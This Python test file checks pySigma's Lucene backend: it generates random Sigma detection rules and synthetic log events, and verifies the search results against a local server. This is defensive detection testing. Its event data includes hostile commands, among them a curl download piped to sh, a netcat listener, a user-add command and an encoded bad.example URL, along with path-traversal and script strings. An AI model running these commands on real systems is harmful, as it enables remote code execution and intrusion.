"""Sigma's own Lucene backend: its queries for drawn rules find the events that the rules describe.

The rules are drawn from templates of log sources, with every modifier that the backend converts, and judged here by what
Sigma's specification says of them (https://github.com/SigmaHQ/sigma-specification), not by the queries.
"""

import base64
import ipaddress
import json
import random
import re
import urllib.request

from sigma.backends.elasticsearch import LuceneBackend
from sigma.collection import SigmaCollection
from serving import serving

NUM_RULES = 500
NUM_EVENTS = 600
AT_ONCE = 100

PATHS = ["C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
         "C:\\Users\\Public\\a b (1).exe", "D:\\Tools\\netcat[x86]\\nc.exe", "C:\\Windows\\explorer.exe"]
LINES = ["cmd.exe /c whoami", "powershell -enc aAB0AHQAcAA6AC8ALwA=", "net user /add bob", "nc.exe -l -p 4444",
         "reg add HKLM\\Software\\Run /v x", "curl http://10.0.0.5/a?b=c&d=e|sh", "echo \"a+b=c\" && exit !", "ls *.log ~/x^y"]
HIDDEN = base64.b64encode(b"run http://bad.example/a now").decode()
ADDRESSES = ["10.0.0.5", "10.20.30.40", "192.168.1.7", "8.8.8.8", "fe80::1", "2001:db8::7"]
NAMES = ["alice", "Bob", "SYSTEM", "svc-backup", "root"]
HOSTS = ["www.example.com", "bad.example", "a.b.c.example.org", "xn--bcher-kva.example"]
URIS = ["/index.php?id=1", "/admin/login.aspx", "/a/../../etc/passwd", "/cgi-bin/x.sh?a={b}", "/search?q=<script>"]

WORDS, NUMBERS, CIDR = "words", "numbers", "addresses"
# Fields of each log source, with their kinds and values.
SOURCES = {
    ("process_creation", "windows"): {"Image": (WORDS, PATHS), "ParentImage": (WORDS, PATHS), "User": (WORDS, NAMES),
                                      "CommandLine": (WORDS, LINES + ["powershell " + HIDDEN, ""])},
    ("process_creation", "linux"): {"Image": (WORDS, ["/bin/sh", "/usr/bin/curl", "/tmp/.x y"]),
                                    "CommandLine": (WORDS, LINES), "LogonId": (NUMBERS, [0, 5, 999])},
    ("network_connection", "windows"): {"Image": (WORDS, PATHS), "DestinationIp": (CIDR, ADDRESSES),
                                        "DestinationPort": (NUMBERS, [22, 80, 443, 4444]), "Initiated": (WORDS, ["true", "false"])},
    ("dns_query", "windows"): {"QueryName": (WORDS, HOSTS), "Image": (WORDS, PATHS), "QueryResults": (WORDS, ADDRESSES)},
    ("file_event", "windows"): {"TargetFilename": (WORDS, PATHS + ["C:\\a\\b.tmp", "C:\\a\\*.?"]), "User": (WORDS, NAMES)},
    ("registry_set", "windows"): {"TargetObject": (WORDS, ["HKLM\\Software\\Run\\x", "HKCU\\Environment\\Path"]),
                                  "Details": (WORDS, ["DWORD (0x00000001)", "C:\\x.dll", ""])},
    ("image_load", "windows"): {"ImageLoaded": (WORDS, PATHS + ["C:\\x\\y.dll"]), "Signed": (WORDS, ["true", "false"])},
    ("webserver", None): {"cs-method": (WORDS, ["GET", "POST"]), "cs-uri-query": (WORDS, URIS),
                          "sc-status": (NUMBERS, [200, 404, 500]), "c-ip": (CIDR, ADDRESSES)},
    ("proxy", None): {"c-uri": (WORDS, URIS), "cs-host": (WORDS, HOSTS), "sc-bytes": (NUMBERS, [0, 10, 123456789])},
    ("firewall", None): {"src_ip": (CIDR, ADDRESSES), "dst_ip": (CIDR, ADDRESSES), "dst_port": (NUMBERS, [22, 80, 8080]),
                         "action": (WORDS, ["allow", "deny"])},
    (None, "aws"): {"eventSource": (WORDS, ["s3.amazonaws.com", "iam.amazonaws.com"]), "sourceIPAddress": (CIDR, ADDRESSES),
                    "eventName": (WORDS, ["PutObject", "CreateUser", "DeleteTrail"]), "userIdentity.type": (WORDS, ["Root", "IAMUser"])},
    (None, "azure"): {"properties.message": (WORDS, ["Add member to role", "Delete user"]), "ResultType": (NUMBERS, [0, 50126])},
    (None, "okta"): {"eventtype": (WORDS, ["user.session.start", "policy.rule.update"]), "outcome.result": (WORDS, ["SUCCESS", "FAILURE"])},
    ("authentication", "linux"): {"process": (WORDS, ["sshd", "sudo"]), "message": (WORDS, ["Failed password for root from 10.0.0.5",
                                  "Accepted publickey for bob", "session opened (uid=0)"]), "pid": (NUMBERS, [1, 77, 4096])},
}


def values_of(event, field):
    found = event
    for key in field.split("."):
        found = found.get(key) if isinstance(found, dict) else None
    return found if isinstance(found, list) else [] if found is None else [found]


def put(event, field, value):
    *path, last = field.split(".")
    for key in path:
        event = event.setdefault(key, {})
    event[last] = value


def draw_events(draw):
    events = []
    for number in range(NUM_EVENTS):
        event = {"n": number}
        for field, (_, values) in draw.choice(list(SOURCES.values())).items():
            if draw.random() < 0.85:
                several = draw.random() < 0.1
                put(event, field, draw.sample(values, 2) if several else draw.choice(values))
        events.append(event)
    return events


# A pattern is a list of texts and of the wildcards ANY and ONE.
ANY, ONE = object(), object()


def sigma_text(pattern):
    written = {ANY: "*", ONE: "?"}
    return "".join(written.get(part) or re.sub(r"([\\*?])", r"\\\1", part) for part in pattern)


def fits(pattern, value):
    written = {ANY: ".*", ONE: "."}
    expression = "".join(written.get(part) or re.escape(part) for part in pattern)
    return re.fullmatch(expression, str(value), re.IGNORECASE | re.DOTALL) is not None


def piece(draw, value):
    """A part of a value, or another text."""
    if len(value) < 3 or draw.random() < 0.1:
        return draw.choice(["zzz", "exe", value or "x"])
    start = draw.randrange(len(value) - 1)
    return value[start:start + draw.randrange(1, 9)]


def any_value(test):
    return lambda values: any(test(value) for value in values)


def draw_text(draw, values):
    """Modifiers with values, and a test of the values of a field."""
    some = [draw.choice(values) for _ in range(draw.choice([1, 1, 2, 3]))]
    kind = draw.choice(["is", "wild", "contains", "contains|all", "startswith", "endswith", "windash|contains", "re", "re|i",
                        "base64offset|contains", "exists", "null", "neq"])
    if kind == "exists":
        wanted = draw.random() < 0.5
        return "exists", wanted, lambda values: bool(values) == wanted
    if kind == "null":
        return "", None, lambda values: not values
    if kind == "neq":
        return "neq", sigma_text([some[0]]), lambda values: not any(fits([some[0]], value) for value in values)
    if kind.startswith("re"):
        text = re.split(r"[^a-z0-9]", piece(draw, some[0]).lower())[0] or "x"
        expression = draw.choice([f".*{text}.*", f"(.*{text}.*|zz+)", f".*[{text[0]}x].*"])
        return kind, expression, any_value(lambda value: re.fullmatch(expression, str(value), re.IGNORECASE | re.DOTALL))
    if kind == "base64offset|contains":
        text = draw.choice(["http://", "bad.example", "nothing"])
        cut = [(0, None), (2, -3), (3, -2)]
        encoded = [base64.b64encode(b" " * offset + text.encode()).decode() for offset in range(3)]
        ends = {0: (None, -3, -2), 1: (None, -3, -2), 2: (None, -3, -2)}
        codes = [code[cut[offset][0]:ends[offset][(len(text) + offset) % 3]] for offset, code in enumerate(encoded)]
        return kind, text, any_value(lambda value: any(code.lower() in str(value).lower() for code in codes))
    if kind == "windash|contains":
        text = draw.choice([" -enc ", " /c ", "-l -p"])
        dashes = ["-", "/", "\u2013", "\u2014", "\u2015"]
        at = [match.start() for match in re.finditer(r"(?<!\w)[-/](?=\w)", text)]
        forms = {text}
        for place in at:
            forms = {form[:place] + dash + form[place + 1:] for form in forms for dash in dashes}
        return kind, text, any_value(lambda value: any(form.lower() in str(value).lower() for form in forms))
    if kind == "wild":
        patterns = [[value[:draw.randrange(len(value) + 1)], draw.choice([ANY, ONE]), piece(draw, value), ANY] for value in some]
    elif kind == "is":
        patterns = [[value] for value in some]
    else:
        start = [] if kind == "startswith" else [ANY]
        end = [] if kind == "endswith" else [ANY]
        cut = {"startswith": lambda value: value[:4], "endswith": lambda value: value[-4:]}.get(kind, lambda value: piece(draw, value))
        texts = [cut(value) or "x" for value in some]
        patterns = [start + [text] + end for text in texts]
        written = [sigma_text([text]) for text in texts]
    if kind in ("is", "wild"):
        written = [sigma_text(pattern) for pattern in patterns]
    every = all if kind == "contains|all" else any
    modifiers = "" if kind in ("is", "wild") else kind
    if kind == "contains|all" and len(written) == 1:
        modifiers = "contains"
    test = lambda values: every(any(fits(pattern, value) for value in values) for pattern in patterns)
    return modifiers, written if len(written) > 1 else written[0], test


def draw_condition(draw, kind, values):
    if kind == NUMBERS:
        number = draw.choice(values) + draw.choice([0, 0, 1])
        modifier = draw.choice(["", "gt", "gte", "lt", "lte"])
        test = {"": lambda value: value == number, "gt": lambda value: value > number, "gte": lambda value: value >= number,
                "lt": lambda value: value < number, "lte": lambda value: value <= number}[modifier]
        return modifier, number, any_value(test)
    if kind == CIDR:
        if draw.random() < 0.5:
            address = draw.choice(values)
            return "", address, any_value(lambda value: value == address)
        networks = draw.sample(["10.0.0.0/8", "192.168.0.0/16", "fe80::/10", "8.8.8.0/24"], draw.choice([1, 2]))
        ranges = [ipaddress.ip_network(network) for network in networks]
        inside = lambda value: any(ipaddress.ip_address(value) in own for own in ranges)
        return "cidr", networks if len(networks) > 1 else networks[0], any_value(inside)
    return draw_text(draw, values)


def draw_selection(draw, fields):
    """A selection as Sigma writes it, and its test of an event."""
    if draw.random() < 0.08:
        words = draw.sample(["whoami", "example", "a b", "4444", "Root"], draw.choice([1, 2]))
        has = lambda event: any(word.lower() in str(value).lower() for word in words for value in all_texts(event))
        return words, has
    maps = []
    for _ in range(draw.choice([1, 1, 1, 2])):
        written, tests = {}, []
        for field in draw.sample(list(fields), min(len(fields), draw.choice([1, 1, 2, 3]))):
            modifiers, value, test = draw_condition(draw, *fields[field])
            written["|".join(filter(None, [field, modifiers]))] = value
            tests.append((field, test))
        maps.append((written, lambda event, tests=tests: all(test(values_of(event, field)) for field, test in tests)))
    if len(maps) == 1:
        return maps[0]
    return [written for written, _ in maps], lambda event: any(test(event) for _, test in maps)


TEXTS = sorted({field for fields in SOURCES.values() for field, (kind, _) in fields.items() if kind == WORDS})


def all_texts(event):
    """The values among which keywords are looked for: a pattern is in no number and no address."""
    return [value for field in TEXTS for value in values_of(event, field)]


def draw_rule(draw, number):
    (category, product), fields = list(SOURCES.items())[number % len(SOURCES)]
    names = ["selection_one", "selection_two", "filter_main", "filter_other"][:draw.choice([1, 2, 3, 4])]
    drawn = {name: draw_selection(draw, fields) for name in names}
    def of(start):
        return [test for name, (_, test) in drawn.items() if name.startswith(start)]
    texts = {"all of them": lambda event: all(test(event) for test in of("")),
             "1 of them": lambda event: any(test(event) for test in of("")),
             "1 of selection_*": lambda event: any(test(event) for test in of("selection_")),
             "selection_one": lambda event: of("selection_one")[0](event)}
    if len(names) > 1:
        texts["selection_one and not selection_two"] = lambda event: of("selection_one")[0](event) and not of("selection_two")[0](event)
        texts["all of selection_*"] = lambda event: all(test(event) for test in of("selection_"))
    if len(names) > 2:
        texts["1 of selection_* and not 1 of filter_*"] = lambda event: (
            any(test(event) for test in of("selection_")) and not any(test(event) for test in of("filter_")))
        texts["selection_one or (selection_two and not filter_main)"] = lambda event: (
            of("selection_one")[0](event) or of("selection_two")[0](event) and not of("filter_main")[0](event))
    condition = draw.choice(list(texts))
    source = {key: value for key, value in (("category", category), ("product", product)) if value}
    detection = {name: written for name, (written, _) in drawn.items()}
    rule = {"title": f"Rule {number}", "id": f"00000000-0000-4000-8000-{number:012}", "status": "test", "level": "low",
            "logsource": source, "detection": {**detection, "condition": condition}}
    return rule, texts[condition]


def post(url, path, body, method="POST", kind="application/json"):
    request = urllib.request.Request(url + path, body.encode(), {"Content-Type": kind}, method=method)
    with urllib.request.urlopen(request) as answer:
        return json.load(answer)


def mapping():
    properties = {"n": {"type": "long"}}
    types = {WORDS: {"type": "wildcard", "normalizer": "lowercase"}, NUMBERS: {"type": "long"}, CIDR: {"type": "ip"}}
    for fields in SOURCES.values():
        for field, (kind, _) in fields.items():
            *path, last = field.split(".")
            inside = properties
            for key in path:
                inside = inside.setdefault(key, {"properties": {}})["properties"]
            inside[last] = types[kind]
    return {"mappings": {"properties": properties}}


def test_sigma_rules_find_the_events_that_they_describe(tmp_path):
    draw = random.Random(34)
    events = draw_events(draw)
    rules = [draw_rule(draw, number) for number in range(NUM_RULES)]
    backend = LuceneBackend()
    with serving(tmp_path) as url:
        post(url, "/events", json.dumps(mapping()), "PUT")
        lines = "".join('{"index":{}}\n' + json.dumps(event) + "\n" for event in events)
        assert not post(url, "/events/_bulk?refresh=true", lines, kind="application/x-ndjson")["errors"]
        num_found = 0
        for first in range(0, NUM_RULES, AT_ONCE):
            asked = []
            for rule, test in rules[first:first + AT_ONCE]:
                text, = backend.convert(SigmaCollection.from_dicts([rule]), "default")
                dsl, = backend.convert(SigmaCollection.from_dicts([rule]), "dsl_lucene")
                for query in ({"query_string": {"query": text}}, dsl["query"]):
                    asked.append((rule, test, text, query))
            searches = [{"query": query, "size": NUM_EVENTS, "_source": ["n"]} for *_, query in asked]
            lines = "".join('{"index":"events"}\n' + json.dumps(search) + "\n" for search in searches)
            answers = post(url, "/_msearch", lines, kind="application/x-ndjson")["responses"]
            for (rule, test, text, _), answer in zip(asked, answers, strict=True):
                assert answer["status"] == 200, (rule, text, answer)
                found = {hit["_source"]["n"] for hit in answer["hits"]["hits"]}
                expected = {event["n"] for event in events if test(event)}
                assert found == expected, (rule, text, found ^ expected)
                num_found += bool(expected)
    # Rules that describe nothing prove little.
    assert num_found > NUM_RULES
